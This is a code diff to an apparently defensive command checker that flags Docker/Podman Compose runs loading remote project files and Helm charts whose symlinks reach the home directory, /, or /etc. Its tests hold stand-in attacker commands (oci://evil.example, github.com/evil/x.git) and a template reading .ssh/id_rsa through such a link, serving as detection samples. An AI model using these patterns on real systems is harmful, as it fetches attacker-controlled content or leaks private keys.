@@ -56,7 +56,8 @@ declare_check! {
     ///   and `ls`) with a project file (the default names, `-f`, `COMPOSE_FILE` in `.env`, and
     ///   the local files they include) that `include`s or `extends` a remote resource (a git
     ///   repository, `oci://`) or an address made from the environment: Compose fetches it
-    ///   while the project loads, the person's variables in the address;
+    ///   while the project loads, the person's variables in the address; or with `-f` naming
+    ///   a remote resource itself (`-f oci://…`);
     /// - pulumi (but `version` and help) with a `Pulumi.yaml` naming the `backend`: logging
     ///   in sends the person's `PULUMI_ACCESS_TOKEN` to that URL;
     /// - shellcheck that both follows `source` to any file (`-x`, `external-sources=true`) and
@@ -1166,8 +1167,9 @@ const COMPOSE_FILES: [&str; 8] = [
 ];
 
 /// Compose (`docker compose`, `podman compose`, `docker-compose`) run in `dir`: a project file
-/// (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the project
-/// directory or the nearest parent holding one) that `include`s or `extends` a remote resource
+/// named by `-f` that is itself a remote resource (`-f oci://…`, `-f https://…/x.git`), or a
+/// project file (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the
+/// project directory or the nearest parent holding one) that `include`s or `extends` a remote resource
 /// (a git repository, `oci://`), or an address interpolated from the environment. Compose's
 /// remote loaders (on unless `--offline`) fetch it with `git ls-remote`/`git fetch` or from the
 /// registry while the project loads, for `ps`, `logs`, `config --services` alike, the
@@ -1208,6 +1210,11 @@ fn compose_remote(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<St
         if let Some(f) = value("--file", Some("-f")) {
             if f.contains(['$', '`']) {
                 return Some("Compose reads a project file named at run time: it may include remote resources Compose fetches".to_owned());
+            }
+            if compose_remote_reference(f) {
+                return Some(format!(
+                    "`{f}` is a remote project file (a git repository, an OCI artifact) Compose fetches while it loads the project"
+                ));
             }
             files.push(resolve(f, dir));
         } else if let Some(d) = value("--project-directory", None) {
@@ -1733,8 +1740,9 @@ fn is_executable_file(f: &Path) -> bool {
 
 /// Helm loads a chart directory with a walk that follows symbolic links, and every file it
 /// finds becomes the chart's (`.Files.Get`, a values file, a template): a chart of the checkout
-/// holding a link to a secret (`files/ca.pem` → `~/.ssh/id_rsa`) has `helm template` or `helm
-/// lint` print it. The directories among the static operands (and the working directory for
+/// holding a link to a secret (`files/ca.pem` → `~/.ssh/id_rsa`), or to a directory the walk
+/// goes on through that holds secrets (`files/h` → `~`, `up` → `../..`), has `helm template`
+/// or `helm lint` print it. The directories among the static operands (and the working directory for
 /// `helm lint` without one) are walked, at most [`CHART_WALK_LIMIT`] entries, unreadable or
 /// larger trees counting as holding such a link.
 fn helm_chart_link(u: &Unit, dir: &Path, look: crate::files::Look<'_>) -> Option<String> {
@@ -1752,10 +1760,10 @@ fn helm_chart_link(u: &Unit, dir: &Path, look: crate::files::Look<'_>) -> Option
     }
     charts.iter().find_map(|c| {
         let mut budget = CHART_WALK_LIMIT;
-        let link = secret_link_under(c, &mut budget);
+        let link = secret_link_under(c, &mut budget, true);
         match link {
             Some(l) => Some(format!(
-                "`{}` in the chart `{}` is a link to a secret: helm follows it and makes the file part of the chart, which a template prints",
+                "`{}` in the chart `{}` is a link to a secret or to a directory holding secrets: helm follows it and makes the files part of the chart, which a template prints",
                 l.display(),
                 c.display()
             )),
@@ -1917,7 +1925,7 @@ fn data_tree_link(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<St
             return None;
         }
         let mut budget = CHART_WALK_LIMIT;
-        match secret_link_under(&top, &mut budget) {
+        match secret_link_under(&top, &mut budget, false) {
             Some(l) => Some(format!(
                 "`{}` under `{}` is a link to a secret: `{base}` reads the files there by names of its own and prints them as its data",
                 l.display(),
@@ -2506,9 +2514,13 @@ fn media_list_head(f: &Path, any_xml: bool) -> bool {
 const CHART_WALK_LIMIT: usize = 4096;
 
 /// A symbolic link under `dir` (not through a linked directory) that leads to a secret, or
-/// into a directory of secrets; an entry whose type cannot be read counts as one. `budget`
-/// counts the entries looked at down to 0 (then the walk stops and finds nothing).
-fn secret_link_under(dir: &Path, budget: &mut usize) -> Option<PathBuf> {
+/// into a directory of secrets; an entry whose type cannot be read counts as one. With
+/// `walks_links`, for a reader whose walk goes on through a linked directory (helm's), a link to
+/// a directory that holds secrets further down counts too: the home or a directory above it
+/// (`up` → `../..` from a checkout in the home), a root, `/etc`, a directory of the home holding
+/// a file of secrets (`~/.config`). `budget` counts the entries looked at down to 0 (then the
+/// walk stops and finds nothing).
+fn secret_link_under(dir: &Path, budget: &mut usize, walks_links: bool) -> Option<PathBuf> {
     let entries = match std::fs::read_dir(dir) {
         Ok(entries) => entries,
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
@@ -2526,14 +2538,18 @@ fn secret_link_under(dir: &Path, budget: &mut usize) -> Option<PathBuf> {
         match e.file_type() {
             Ok(t) if t.is_symlink() => {
                 let leads = std::fs::canonicalize(&path).map_or(true, |target| {
-                    crate::files::is_secret(&target) || crate::files::is_secret_dir(&target)
+                    crate::files::is_secret(&target)
+                        || crate::files::is_secret_dir(&target)
+                        || walks_links
+                            && target.is_dir()
+                            && super::common::holds_secrets(&target.to_string_lossy())
                 });
                 if leads {
                     return Some(path);
                 }
             }
             Ok(t) if t.is_dir() => {
-                if let Some(l) = secret_link_under(&path, budget) {
+                if let Some(l) = secret_link_under(&path, budget, walks_links) {
                     return Some(l);
                 }
             }
@@ -4106,6 +4122,17 @@ mod tests {
         assert!(flagged(root, "docker compose --file=\"$F\" ps").is_some());
         write(root, ".env", "COMPOSE_FILE=other/evil.yml\n");
         assert!(flagged(root, "docker compose ps").is_some());
+        std::fs::remove_file(root.join(".env")).unwrap_or_else(|e| panic!("{e}"));
+        // A project file that is itself remote: Compose fetches it.
+        for cmd in [
+            "docker compose -f oci://evil.example/app:latest ps",
+            "docker compose --file=https://github.com/evil/x.git config --services",
+            "docker-compose -f git@github.com:evil/x.git ps",
+            "podman compose -f oci://evil.example/app images",
+        ] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        assert_eq!(flagged(root, "docker compose -f compose.yaml ps"), None);
     }
 
     #[test]
@@ -4178,6 +4205,42 @@ mod tests {
             assert!(flagged(&dir, cmd).is_some(), "{cmd}");
         }
         assert_eq!(flagged(root, "helm version"), None);
+    }
+
+    #[test]
+    fn helm_chart_with_a_link_to_a_directory_holding_secrets() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "chart/Chart.yaml",
+            "apiVersion: v2\nname: c\nversion: 0.1.0\n",
+        );
+        write(
+            root,
+            "chart/templates/a.yaml",
+            "x: {{ .Files.Get \"files/h/.ssh/id_rsa\" }}\n",
+        );
+        let link = root.join("chart/files/h");
+        write(root, "chart/files/readme.txt", "hello\n");
+        // A directory holding nothing secret, walked through: no finding.
+        std::os::unix::fs::symlink("/usr/share/doc", &link).unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(flagged(root, "helm template ./chart"), None);
+        let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
+        for target in [home.as_str(), "/", "/etc"] {
+            std::fs::remove_file(&link).unwrap_or_else(|e| panic!("{e}"));
+            std::os::unix::fs::symlink(target, &link).unwrap_or_else(|e| panic!("{e}"));
+            for cmd in [
+                "helm template ./chart",
+                "helm show values chart",
+                "helm lint chart",
+            ] {
+                assert!(
+                    flagged(root, cmd).is_some(),
+                    "{cmd} with a link to {target}"
+                );
+            }
+        }
     }
 
     #[test]
